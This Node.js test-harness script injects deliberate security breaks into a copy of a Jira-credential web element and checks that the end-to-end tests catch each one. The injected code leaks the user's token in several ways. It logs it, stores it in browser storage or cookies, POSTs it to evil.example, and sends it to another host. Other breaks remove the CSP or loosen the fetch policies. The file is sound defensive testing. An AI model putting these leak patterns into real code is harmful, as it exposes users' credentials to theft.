#!/usr/bin/env node
// Deliberate breaks: proves the end-to-end suite catches the mistakes it exists for. Each break is
// applied to a scratch copy of www/ (never to www/ itself), the suite runs against the copy through
// E2E_WWW_ROOT, and the break counts as caught when some test fails. Not part of `npm test`
// (it runs the suite once per break: about 2 minutes each).
//
//   node tests/e2e/breaks.mjs                 every break
//   node tests/e2e/breaks.mjs log-token ...   only these
//   E2E_BREAK_FILES="e2e token-path" node tests/e2e/breaks.mjs   only these suites (default: all but fake-jira)
//   E2E_BREAK_SKIP_BASELINE=1 ...            skip the first run on the unbroken copy (which must be green)

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';

import { buildElement } from '../../scripts/build-element.mjs';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const ROOT = path.resolve(HERE, '../..');
const WWW = path.join(ROOT, 'www');
// Breaks edit the readable sources (the element's modules in element/); the pages load the bundle
// in pkg/, which is then built from the broken sources (unminified: what it does is the same).
const SHELL = 'element/element.js';
const CHECK = 'element/check.js';
const OUTPUTS = 'element/outputs.js';
const GLUE = 'pkg/tines_jira_credential.js';

const VERIFY_ANCHOR = '    let verification;\n';
const UPDATE_ANCHOR = '    const report = api.buildCredential(input);\n';

/** name -> { what, edits: [{file, find, replace}] }; `find` must occur exactly once. */
const BREAKS = {
  'log-token': {
    what: 'the element logs the token (console.log) when the check starts',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.log('checking', f.email.value, f.token.value);\n` }],
  },
  'log-auth': {
    what: 'the element logs the Basic auth value (base64 of email:token), not the raw token',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.debug('auth', btoa(f.email.value + ':' + f.token.value));\n` }],
  },
  'store-field': {
    what: 'the element remembers the site in localStorage (a field, not even the token)',
    edits: [{ file: SHELL, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    localStorage.setItem('tjc-site', this.#el.site.value);\n` }],
  },
  'store-token-session': {
    what: 'the element keeps the token in sessionStorage, by property assignment (no setItem call)',
    edits: [{ file: SHELL, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    if (report.fields.token.ok) sessionStorage.tjcToken = report.fields.token.value;\n` }],
  },
  'cookie-token': {
    what: 'the element puts the token in a cookie',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    document.cookie = 'tjc=' + encodeURIComponent(f.token.value);\n` }],
  },
  'send-evil': {
    what: 'the element sends the token to another host (evil.example, outside the CSP)',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` }],
  },
  'send-evil-no-csp': {
    what: 'the token goes to evil.example and the pages lose their CSP (so only the token-path checks stand in the way)',
    edits: [
      { file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` },
      { file: 'index.html', find: /\n\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, replace: '' },
      { file: 'embed.html', find: /\n\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, replace: '' },
    ],
  },
  'send-other-atlassian': {
    what: 'the element sends the token to another Atlassian host the CSP allows (in the URL)',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://collector.atlassian.net/t?k=' + f.token.value, { mode: 'no-cors', credentials: 'omit' }).catch(() => {});\n` }],
  },
  'send-gateway-header': {
    what: 'the element also sends Basic auth to api.atlassian.com on the site route',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://api.atlassian.com/me', { headers: { Authorization: 'Basic ' + btoa(f.email.value + ':' + f.token.value) } }).catch(() => {});\n` }],
  },
  'token-in-markup': {
    what: 'the element mirrors the token into an attribute',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('data-token', f.token.value);\n` }],
  },
  'token-in-metadata-copy': {
    what: 'the Metadata output (shown and copied) also carries the token',
    edits: [{ file: OUTPUTS, find: '      metadata: o.metadataJson,\n', replace: "      metadata: o.metadataJson.replace('\\n}', `,\\n  \"token\": \"${o.value}\"\\n}`),\n" }],
  },
  'credentials-include': {
    // The wasm's own RequestInit setters live in the generated glue (www/pkg), so these breaks are
    // real, in the scratch copy, without rebuilding: the Rust side would change src/transport.rs.
    what: 'wasm glue: the check sends cookies (credentials: "include" instead of "omit")',
    edits: [{ file: GLUE, find: /([\w$]+)\.credentials\s*=\s*[\w$]+\[[\w$]+\]/, replace: "$1.credentials = 'include'" }],
  },
  'redirect-follow': {
    what: 'wasm glue: redirects are followed (redirect: "follow" instead of "manual")',
    edits: [{ file: GLUE, find: /([\w$]+)\.redirect\s*=\s*[\w$]+\[[\w$]+\]/, replace: "$1.redirect = 'follow'" }],
  },
  'referrer-sent': {
    what: 'wasm glue: the page address goes to Jira (referrerPolicy: "unsafe-url" instead of "no-referrer")',
    edits: [{ file: GLUE, find: /([\w$]+)\.referrerPolicy\s*=\s*[\w$]+\[[\w$]+\]/, replace: "$1.referrerPolicy = 'unsafe-url'" }],
  },
  'inline-style': {
    what: 'the element sets an inline style (refused by the CSP)',
    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('style', 'outline: 1px solid red');\n` }],
  },
};

// One snapshot of www/ for every run: others may rebuild www/pkg (rm -rf, then write) while this
// runs, and a copy caught half-way would "catch" a break that is not there.
const SNAPSHOT = fs.mkdtempSync(path.join(os.tmpdir(), 'tjc-break-snapshot-'));
fs.cpSync(WWW, SNAPSHOT, { recursive: true, dereference: true });
for (const f of ['tines_jira_credential.js', 'tines_jira_credential_bg.wasm']) {
  if (!fs.existsSync(path.join(SNAPSHOT, 'pkg', f))) throw new Error(`www/pkg/${f} is missing: run \`npm run build\` (or wait for a running build) first`);
}
process.on('exit', () => fs.rmSync(SNAPSHOT, { recursive: true, force: true }));

function copyWww() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tjc-break-'));
  fs.cpSync(SNAPSHOT, dir, { recursive: true });
  return dir;
}

async function apply(dir, edits) {
  for (const { file, find, replace } of edits) {
    const p = path.join(dir, file);
    const text = fs.readFileSync(p, 'utf8');
    const count = find instanceof RegExp ? (text.match(new RegExp(find.source, 'g')) ?? []).length : text.split(find).length - 1;
    if (count !== 1) throw new Error(`${file}: anchor found ${count} times: ${String(find)}`);
    // A RegExp anchor may use $1 in its replacement (the glue is minified: names vary by build).
    fs.writeFileSync(p, find instanceof RegExp ? text.replace(find, replace) : text.replace(find, () => replace));
  }
  if (edits.some((e) => e.file.startsWith('element/'))) {
    await buildElement({ dev: true, www: dir });
  }
}

/** The failing tests of a TAP run: [{name, error}], innermost names. */
function failures(tap) {
  const lines = tap.split('\n');
  const out = [];
  for (let i = 0; i < lines.length; i++) {
    const m = /^(\s*)not ok \d+ - (.*)$/.exec(lines[i]);
    if (!m || /# TODO/.test(m[2])) continue;
    let error = '';
    for (let j = i + 1; j < Math.min(i + 40, lines.length); j++) {
      const e = /^\s*error: (?:\|-)?\s*'?(.*?)'?$/.exec(lines[j]);
      if (e) {
        error = e[1] || (lines[j + 1] ?? '').trim();
        break;
      }
    }
    if (error === '1 subtest failed' || /subtests failed/.test(error)) continue;
    out.push({ name: m[2], error: error.slice(0, 160) });
  }
  return out;
}

const wanted = process.argv.slice(2);
for (const name of wanted) if (!BREAKS[name]) throw new Error(`unknown break ${name}; one of ${Object.keys(BREAKS).join(', ')}`);
const names = wanted.length ? wanted : Object.keys(BREAKS);
const suites = (process.env.E2E_BREAK_FILES ?? 'e2e token-path browser a11y').split(/\s+/).filter(Boolean).map((s) => path.join(HERE, `${s}.test.mjs`));

function runSuites(dir) {
  const run = spawnSync(process.execPath, ['--test', '--test-concurrency=1', '--test-reporter=tap', ...suites], {
    cwd: ROOT,
    env: { ...process.env, E2E_WWW_ROOT: dir, E2E_SCREENSHOTS: path.join(dir, '.shots') },
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  return { status: run.status, failed: failures(run.stdout) };
}

// The unbroken snapshot must pass first, or no failure below means anything.
if (!process.env.E2E_BREAK_SKIP_BASELINE) {
  const started = Date.now();
  const dir = copyWww();
  try {
    const base = runSuites(dir);
    console.log(`baseline (no break): ${base.status === 0 ? 'green' : 'RED'} (${Math.round((Date.now() - started) / 1000)} s)`);
    if (base.status !== 0) {
      for (const f of base.failed) console.log(`  - ${f.name}\n      ${f.error}`);
      process.exit(2);
    }
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

const summary = [];
for (const name of names) {
  const brk = BREAKS[name];
  const dir = copyWww();
  try {
    await apply(dir, brk.edits);
    const started = Date.now();
    const run = runSuites(dir);
    const failed = run.failed;
    const caught = run.status !== 0 && failed.length > 0;
    summary.push({ name, caught, failed });
    console.log(`\n${caught ? 'CAUGHT' : 'MISSED'} ${name}: ${brk.what} (${Math.round((Date.now() - started) / 1000)} s)`);
    for (const f of failed) console.log(`  - ${f.name}\n      ${f.error}`);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
const missed = summary.filter((s) => !s.caught);
console.log(`\n${summary.length - missed.length}/${summary.length} breaks caught${missed.length ? `; missed: ${missed.map((s) => s.name).join(', ')}` : ''}`);
process.exitCode = missed.length ? 1 : 0;
